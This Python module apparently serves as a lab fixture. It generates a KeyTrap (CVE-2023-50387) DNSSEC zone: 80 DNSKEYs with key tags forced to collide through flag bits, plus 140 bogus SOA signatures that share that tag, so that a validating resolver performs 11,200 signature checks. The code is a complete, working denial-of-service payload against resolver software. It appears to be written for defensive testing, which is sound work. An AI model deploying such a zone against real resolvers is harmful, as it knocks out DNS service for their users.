"""The hostile provider's KeyTrap zone (CVE-2023-50387): 80 DNSKEYs sharing one key tag
and 140 bogus signatures over the SOA, so a validator that tries every (signature,
key) pair does 11,200 ECDSA verifications for one RRset.

The keys are derived from fixed numbers, so the lab's DNS server and the test that
writes the trust anchor agree without sharing files. Key tags are made to collide by
setting unused DNSKEY flag bits: the flags are the first 16-bit word of the rdata, so
each key's tag can be steered to the common one.
"""

from __future__ import annotations

import datetime as dt
import functools
import hashlib

import dns.dnssec
import dns.name
import dns.rdata
import dns.rdataclass
import dns.rdatatype
import dns.rrset
from cryptography.hazmat.primitives.asymmetric import ec
from dns.rdtypes.ANY.DNSKEY import DNSKEY

KEYS = 80
BOGUS_SIGNATURES = 140
TTL = 300
_ZONE_FLAG, _SEP_FLAG, _REVOKE_FLAG = 0x0100, 0x0001, 0x0080
_ALGORITHM = 13  # ECDSAP256SHA256


def _tag_base(rdata_without_flags: bytes) -> int:
    total = 0
    for i, byte in enumerate(rdata_without_flags):
        total += byte << 8 if i % 2 == 0 else byte
    return total


def _fold(total: int) -> int:
    return (total + (total >> 16)) & 0xFFFF


def _key(seed: int) -> ec.EllipticCurvePrivateKey:
    number = int.from_bytes(hashlib.sha256(f"vetscan-keytrap-{seed}".encode()).digest(), "big")
    return ec.derive_private_key(number % (2**255) + 1, ec.SECP256R1())


@functools.cache
def keys(zone: str) -> tuple[tuple[ec.EllipticCurvePrivateKey, DNSKEY], ...]:
    """(private key, DNSKEY) pairs; the first is the key-signing key the anchor names."""
    first_private = _key(0)
    first = dns.dnssec.make_dnskey(first_private.public_key(), _ALGORITHM, _ZONE_FLAG | _SEP_FLAG)
    target = dns.dnssec.key_id(first)
    out = [(first_private, first)]
    seed = 1
    while len(out) < KEYS:
        private = _key(seed)
        seed += 1
        plain = dns.dnssec.make_dnskey(private.public_key(), _ALGORITHM, 0)
        wire = plain.to_wire() or b""
        base = _tag_base(b"\x00\x00" + wire[2:])
        for flags in range(_ZONE_FLAG, 0x10000):
            usable = flags & _ZONE_FLAG and not flags & _REVOKE_FLAG
            if usable and _fold(base + flags) == target:
                key = dns.dnssec.make_dnskey(private.public_key(), _ALGORITHM, flags)
                assert dns.dnssec.key_id(key) == target
                out.append((private, key))
                break
    return tuple(out)


def anchor_line(zone: str) -> str:
    """The trust-anchor line (--trust-anchors) for the zone's key-signing key."""
    return f"{zone}. DNSKEY {keys(zone)[0][1].to_text()}"  # type: ignore[no-untyped-call]


def signed_rrsets(zone: str) -> tuple[dns.rrset.RRset, dict[int, dns.rrset.RRset]]:
    """The DNSKEY set, and RRSIG sets by the type they cover: the DNSKEY set signed for
    real by the first key; the SOA with 140 signatures that all claim the shared key
    tag and none of which validates."""
    origin = dns.name.from_text(zone)
    pairs = keys(zone)
    dnskeys = dns.rrset.from_rdata_list(origin, TTL, [key for _, key in pairs])
    now = dt.datetime.now(dt.UTC)
    inception, expiration = now - dt.timedelta(days=1), now + dt.timedelta(days=30)
    good = dns.dnssec.sign(
        dnskeys, pairs[0][0], origin, pairs[0][1], inception=inception, expiration=expiration
    )
    tag = dns.dnssec.key_id(pairs[0][1])
    bogus = [
        dns.rdata.from_text(
            dns.rdataclass.IN,
            dns.rdatatype.RRSIG,
            f"SOA 13 {len(origin) - 1} {TTL} {expiration:%Y%m%d%H%M%S} {inception:%Y%m%d%H%M%S} "
            f"{tag} {zone}. " + _b64(hashlib.sha512(f"bogus-{n}".encode()).digest()),
        )
        for n in range(BOGUS_SIGNATURES)
    ]
    return dnskeys, {
        dns.rdatatype.DNSKEY: dns.rrset.from_rdata_list(origin, TTL, [good]),
        dns.rdatatype.SOA: dns.rrset.from_rdata_list(origin, TTL, bogus),
    }


def _b64(data: bytes) -> str:
    import base64

    return base64.b64encode(data).decode("ascii")
